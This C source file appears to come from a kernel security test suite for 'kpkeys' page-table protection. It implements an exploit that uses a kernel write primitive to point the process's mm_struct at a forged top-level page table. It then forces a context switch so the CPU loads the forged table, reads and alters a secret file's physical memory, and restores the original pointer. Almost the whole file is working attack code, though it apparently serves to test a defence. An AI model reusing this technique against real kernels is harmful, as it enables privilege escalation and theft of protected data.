// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have the attacker's own mm_struct point to a topmost table in ordinary
 * memory, a copy of the real one with an entry more. No page table is written
 * to: the CPU loads the forged one.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"
#include "upper.h"

/*
 * mm->pgd is looked at when the CPU comes from another address space. With one
 * CPU for both, the answer of another process is only there when it has run.
 */
static void switch_away(void)
{
	int ask[2], answer[2];
	cpu_set_t first;
	char c = 0;
	pid_t pid;

	CPU_ZERO(&first);
	CPU_SET(0, &first);
	if (sched_setaffinity(0, sizeof(first), &first))
		die_errno("staying on one CPU");
	if (pipe(ask) || pipe(answer))
		die_errno("pipe");
	pid = fork();
	if (pid < 0)
		die_errno("fork");
	if (!pid) {
		close(ask[1]);
		while (read(ask[0], &c, 1) == 1)
			if (write(answer[1], &c, 1) != 1)
				break;
		_exit(0);
	}
	close(ask[0]);
	if (write(ask[1], &c, 1) != 1 || read(answer[0], &c, 1) != 1)
		die_errno("waiting for another process");
	close(ask[1]);
	close(answer[0]);
	close(answer[1]);
	if (waitpid(pid, NULL, 0) != pid)
		die_errno("waitpid");
}

int main(int argc, char **argv)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 secret = vuln_file_phys(argc > 1 ? argv[1] : NULL);
	u64 span = 1UL << info->shift[KPKEYS_VULN_PGD];
	char *target = forged_target(KPKEYS_VULN_PGD);
	size_t size = page_size();
	char *before = map_pages(target - size, size);
	char *after = map_pages(target + span, size);
	struct kpkeys_vuln_entry e;
	struct kpkeys_vuln_mm mm;
	u64 forged;

	/* All that is needed later has its tables before they are copied. */
	*before = 1;
	*after = 1;
	e = vuln_entry(KPKEYS_VULN_SELF, target, KPKEYS_VULN_PGD);
	if (e.value & ~info->sync)
		die("the entry is in use");
	forged = forge_tables(KPKEYS_VULN_PGD, target, secret) | info->table;
	mm = vuln_mm(before);

	vuln_write(mm.addr, forge_root(&mm, target, forged));
	switch_away();
	sync_between(before, after);
	steal_and_alter(target);

	vuln_write(mm.addr, mm.pgd);
	switch_away();
	return 0;
}
